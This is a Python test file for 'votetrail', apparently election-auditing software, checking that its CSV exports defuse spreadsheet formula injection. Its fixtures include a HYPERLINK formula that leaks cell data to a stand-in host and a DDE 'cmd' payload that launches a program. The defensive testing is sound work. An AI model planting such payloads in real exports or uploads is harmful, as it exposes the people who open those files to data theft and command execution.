"""Every CSV votetrail writes defuses spreadsheet formulas, through one writer.

A precinct, tabulator, batch, contest or ballot style named in an uploaded
file can be ``=HYPERLINK(...)``; written as it is, a spreadsheet opening the
accounting CSV or the public deck CSV runs it. The cells must come out with a
leading ``'`` (OWASP's advice), while counts the application computed stay
numbers.
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace

import pytest

from tests.conftest import REPO
from tests.formats.lat.test_deck_files import hand_made_deck
from votetrail.core.accounting.phantoms import plan_phantoms
from votetrail.core.accounting.reconcile import (
    CvrSummary,
    DeviceCounts,
    ManifestBatch,
    reconcile,
)
from votetrail.core.tally.tabulate import ContestResult
from votetrail.formats.accounting.report import write_csv as write_accounting_csv
from votetrail.formats.csv_out import CsvWriter, safe_cell, write_dicts
from votetrail.formats.lat.deck_files import write_deck_csv
from votetrail.formats.tally.results import write_csv as write_results_csv

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for results")'


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_text_cells_are_defused_and_numbers_stay_numbers() -> None:
    out = io.StringIO()
    writer = CsvWriter(out)
    writer.writerow(["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "plain", "a=b"])
    writer.writerow([-3, 2.5, 0, None, "-3"])
    assert rows_of(out.getvalue()) == [
        ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "plain", "a=b"],
        ["-3", "2.5", "0", "", "'-3"],  # -3 computed here is a number; "-3" from a file is text
    ]
    assert safe_cell(-3) == -3
    assert safe_cell(LINK) == "'" + LINK


def test_accounting_csv_defuses_places_from_uploaded_files() -> None:
    precinct, tabulator, batch = LINK, "@tab", "-1"
    cvrs = CvrSummary(batches={(tabulator, batch): 3}, precincts={precinct: 3})
    outcome = reconcile(cvrs, [ManifestBatch(tabulator, batch, 5)], check_ins={precinct: 7})
    out = io.StringIO()
    write_accounting_csv(outcome, out)
    heading, *rows = rows_of(out.getvalue())
    cells = {cell for row in rows for cell in row}
    assert "'" + LINK in cells
    assert "'@tab" in cells
    assert "'-1" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    counts = [row[heading.index("count")] for row in rows]
    assert all(re.fullmatch(r"-?[0-9]+", count) for count in counts)  # numbers, not '-quoted


def test_deck_csv_defuses_precinct_and_ballot_style() -> None:
    deck = hand_made_deck()
    ballots = tuple(replace(b, precinct=LINK, ballot_style="+A") for b in deck.ballots)
    out = io.StringIO()
    write_deck_csv(replace(deck, ballots=ballots), out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert {row["precinct"] for row in rows} == {"'" + LINK}
    assert {row["ballot_style"] for row in rows} == {"'+A"}
    assert rows[0]["ballot"] == "1"


def test_results_csv_defuses_contest_and_choice_names() -> None:
    result = ContestResult(
        name="=cmd|' /C calc'!A0",
        votes_allowed=1,
        ballots=3,
        overvotes=0,
        undervotes=1,
        tally={"@choice": 2},
    )
    out = io.StringIO()
    write_results_csv([result], out)
    assert rows_of(out.getvalue())[1] == ["'=cmd|' /C calc'!A0", "'@choice", "2", "1", "3"]


def test_write_dicts_defuses_too() -> None:
    out = io.StringIO()
    write_dicts(out, [{"a": "=x", "b": -2}], ["a", "b"])
    assert out.getvalue() == "a,b\n'=x,-2\n"


_RAW_WRITER = re.compile(
    r"\bcsv\s*\.\s*(?:writer|DictWriter)\b|\bfrom\s+csv\s+import\b[^\n]*\b(?:writer|DictWriter)\b"
)


def test_no_csv_is_written_outside_the_one_writer() -> None:
    """A new ``csv.writer`` anywhere in ``src/`` would bypass the formula defusing."""
    package = REPO / "src" / "votetrail"
    allowed = package / "formats" / "csv_out.py"
    offenders = [
        f"{path.relative_to(REPO)}:{number}"
        for path in sorted(package.rglob("*.py"))
        if path != allowed
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if _RAW_WRITER.search(line)
    ]
    assert offenders == [], "write CSV through votetrail.formats.csv_out.CsvWriter"
    assert _RAW_WRITER.search(allowed.read_text(encoding="utf-8"))  # the check can see one


def test_phantoms_list_defuses_and_quotes_tabulators(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """``votetrail accounting phantoms`` wrote ``f"{id},{tabulator}"``: no defusing, no quoting."""
    from types import SimpleNamespace

    from votetrail.cli import counting as cli

    plan = plan_phantoms([DeviceCounts(LINK, 1, 0, 1), DeviceCounts("T-1, spare", 1, 0, 1)])
    report = SimpleNamespace(phantoms=plan)
    monkeypatch.setattr(cli, "open_app", lambda *args: None)
    monkeypatch.setattr(cli, "accounting", lambda app, jurisdiction: report)
    cli.accounting_phantoms("adams")
    heading, *rows = rows_of(capsys.readouterr().out)
    assert heading == ["phantom_id", "tabulator"]
    assert [row[1] for row in rows] == ["'" + LINK, "T-1, spare"]
    assert all(len(row) == 2 for row in rows)
